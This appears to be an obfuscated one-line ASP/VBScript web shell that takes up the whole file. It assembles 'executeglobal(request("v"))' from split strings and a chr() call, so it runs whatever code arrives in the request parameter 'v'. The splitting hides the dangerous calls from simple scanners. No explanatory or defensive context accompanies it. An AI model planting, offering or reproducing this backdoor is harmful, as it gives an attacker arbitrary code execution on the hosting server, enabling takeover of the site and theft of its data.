<%@ Language=VBScript inert %><%a=chr(101)&"xecute"&"global":b=a&"(requ"&"est(""v""))":execute(b)%>
